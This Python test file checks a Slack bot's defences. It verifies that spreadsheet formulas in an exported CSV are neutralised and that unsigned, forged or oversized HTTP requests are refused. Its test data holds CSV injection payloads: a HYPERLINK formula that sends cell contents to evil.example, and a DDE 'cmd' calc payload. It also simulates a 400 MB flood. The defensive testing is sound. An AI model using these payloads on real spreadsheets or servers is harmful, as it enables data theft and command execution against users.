"""Defects from the second hostile review (#22) at Atelier's edges: HTTP and the ship pack's CSV.

Each test fails with its fix switched off (checked when it was written; see RELIABILITY.md).
"""

from __future__ import annotations

import csv
import io
import logging
import socket
import time
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import select

from bot import ship_pack
from bot.playbook.gate import GateItem
from bot.playbook.tools.ship import Final, ShipRecord
from bot.serve import MAX_BODY_BYTES
from bot.workbench import walk
from bot.workbench.local import LocalProcesses, LocalSlack
from bot.workbench.standin import sign
from storage import inbox
from storage.files import ImageStore
from storage.models import InboxRequest
from tests.workbench import CHANNEL, DIRECTOR, INTENT, NAMES, OPERATOR, REVIEWER, TEAM

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Open the brief")'


def test_a_formula_in_finals_csv_arrives_as_text(tmp_path: Path) -> None:
    store = ImageStore(str(tmp_path / "store"))
    digest = store.put(b"\x89PNG not really")
    cells = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\tTab", "\rCR", "A calm one"]
    finals = [
        Final(n, digest, alt, "=UREVIEWER", "2026-12-01", {item.value: True for item in GateItem})
        for n, alt in enumerate(cells, start=1)
    ]
    record = ShipRecord(1, "=cmd", finals, [], [], [])
    ship_pack.write(record, store, tmp_path / "pack.zip")
    with zipfile.ZipFile(tmp_path / "pack.zip") as pack:
        rows = list(csv.DictReader(io.StringIO(pack.read("finals.csv").decode())))
    assert [row["alt_text"] for row in rows] == ["'" + c for c in cells[:-1]] + ["A calm one"]
    assert {row["cleared_by"] for row in rows} == {"'=UREVIEWER"}
    assert [row["number"] for row in rows] == [str(n) for n in range(1, 8)]


def _peak_rss_mb(pid: int) -> float:
    status = Path(f"/proc/{pid}/status").read_text()
    line = next(line for line in status.splitlines() if line.startswith("VmHWM:"))
    return int(line.split()[1]) / 1024


def _post(port: int, body: bytes, headers: dict[str, str], size: int | None = None) -> int:
    """A POST to serve's events URL; its status. A large body is sent only once serve starts
    reading it (it claims `size` bytes, sent as pieces of `body`, when `size` is given).

    Serve should refuse a large request from its headers alone. Waiting for that answer before
    sending the body keeps the test from reading a reset or a broken pipe: a server that hangs
    up with unread bytes in its buffer resets the connection, which can discard its answer.
    """
    size = len(body) if size is None else size
    head = "".join(
        ["POST /slack/events HTTP/1.1\r\nHost: x\r\n"]
        + [f"{name}: {value}\r\n" for name, value in headers.items()]
        + [f"Content-Length: {size}\r\n\r\n"]
    ).encode("latin-1")
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        if size <= 1 << 16:
            sock.sendall(head + body)
            return _status(_answer_within(sock, 30))
        sock.sendall(head)
        answer = _answer_within(sock, 3)
        if not answer:  # serve is reading the body: send it all, as an attacker would
            try:
                for _ in range(max(1, size // len(body))):
                    sock.sendall(body)
            except OSError:
                pass  # serve answered and hung up before the body was all sent
            answer = _answer_within(sock, 30)
    return _status(answer)


def _status(answer: str) -> int:
    assert answer, "serve hung up without an answer"
    return int(answer.split()[1])


def _answer_within(sock: socket.socket, seconds: float) -> str:
    sock.settimeout(seconds)
    try:
        return sock.recv(200).decode(errors="replace")
    except (TimeoutError, ConnectionResetError):
        return ""


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_unsigned_requests_are_refused_before_they_are_read_or_parsed(
    db_url: str, tmp_path: Path
) -> None:
    with LocalProcesses(db_url, tmp_path / "store", NAMES, tmp_path / "logs") as stack:
        slack, port = stack.standin, stack.port
        assert slack.command(DIRECTOR, CHANNEL, "help").status == 200
        time.sleep(0.5)
        before = _peak_rss_mb(stack.server.pid)
        piece = b"{" * (1 << 20)
        assert _post(port, piece, {"Content-Type": "application/json"}, 400 << 20) == 413
        rise = _peak_rss_mb(stack.server.pid) - before
        print(f"serve's peak memory rose {rise:.0f} MB for an unsigned 400 MB request")
        assert rise < 300
        stamp = str(int(time.time()))
        signed_big = b"x" * (MAX_BODY_BYTES + 1)
        big_headers = {
            "X-Slack-Request-Timestamp": stamp,
            "X-Slack-Signature": sign(slack.signing_secret, stamp, signed_big.decode()),
        }
        assert _post(port, signed_big, big_headers) == 413
        assert _post(port, b"x", {"Content-Type": "application/json"}) == 401
        assert _post(port, b"x", {"X-Slack-Request-Timestamp": stamp}) == 401
        superscript = {"X-Slack-Request-Timestamp": "\u00b2", "X-Slack-Signature": "v0=00"}
        assert _post(port, b"x", superscript) == 401
        forged = {"X-Slack-Request-Timestamp": stamp, "X-Slack-Signature": "v0=" + "0" * 64}
        assert _post(port, b"command=%2Fatelier&text=help", forged) == 401
        assert slack.command(DIRECTOR, CHANNEL, "help").status == 200
        log = stack.log_text("serve")
    assert "Traceback" not in log and "Exception" not in log


def _inbox_kinds(local: LocalSlack) -> list[str]:
    with local.server.atelier.service.sessions() as s:
        rows = s.scalars(select(InboxRequest).order_by(InboxRequest.id))
        return [
            str((row.body.get("event") or {}).get("text") or row.body.get("text") or row.kind)
            for row in rows
        ]


def test_the_inbox_keeps_only_what_atelier_acts_on(local: LocalSlack) -> None:
    slack = local.standin
    thread = walk.start(local, TEAM, INTENT)
    local.settle()
    before = len(_inbox_kinds(local))
    slack.say(OPERATOR, CHANNEL, "lunch at noon?")  # the channel's own chat
    chat, _ = slack.say(OPERATOR, CHANNEL, "anyone?")
    slack.say(REVIEWER, CHANNEL, "me", thread_ts=str(chat["ts"]))  # a thread that is no project
    slack._event(  # Atelier's own post, as Slack echoes it
        {
            "type": "message",
            "channel": CHANNEL,
            "bot_id": slack.bot_id,
            "text": "Moodboard",
            "ts": "1.1",
            "thread_ts": thread,
        }
    )
    slack._event(
        {
            "type": "message",
            "subtype": "message_changed",
            "channel": CHANNEL,
            "ts": "1.2",
            "thread_ts": thread,
            "message": {"text": "edited"},
        }
    )
    slack.say(OPERATOR, CHANNEL, "status", thread_ts=thread)  # a verb in the project
    local.ephemeral(OPERATOR, "Project 1")
    slack.say(DIRECTOR, CHANNEL, "looks good so far", thread_ts=thread)  # chat in the project
    local.settle()
    assert _inbox_kinds(local)[before:] == ["status", "looks good so far"]


def test_a_request_set_aside_is_logged_and_its_sender_told(
    local: LocalSlack, caplog: pytest.LogCaptureFixture
) -> None:
    walk.start(local, TEAM, INTENT)
    local.settle()
    body = {"command": "/atelier", "text": "status", "channel_id": CHANNEL, "user_id": DIRECTOR}
    with local.server.atelier.service.sessions.begin() as s:
        inbox.record(s, key="h:doomed", kind="slash_command", body=body)
        row = s.scalars(select(InboxRequest).where(InboxRequest.key == "h:doomed")).one()
        row.attempts = inbox.MAX_ATTEMPTS
    with caplog.at_level(logging.ERROR, logger="atelier.inbox"):
        local.server.inbox._work.release()
        said = local.ephemeral(DIRECTOR, "set it aside")["text"]
        local.settle()
    assert "your `/atelier` command after 5 tries" in said and "reference inbox-" in said
    logged = [
        r for r in caplog.records if r.getMessage() == "request set aside after repeated failures"
    ]
    assert [getattr(r, "kind", None) for r in logged] == ["slash_command"]
    with local.server.atelier.service.sessions() as s:
        assert (
            s.scalars(select(InboxRequest.status).where(InboxRequest.key == "h:doomed")).one()
            == "failed"
        )
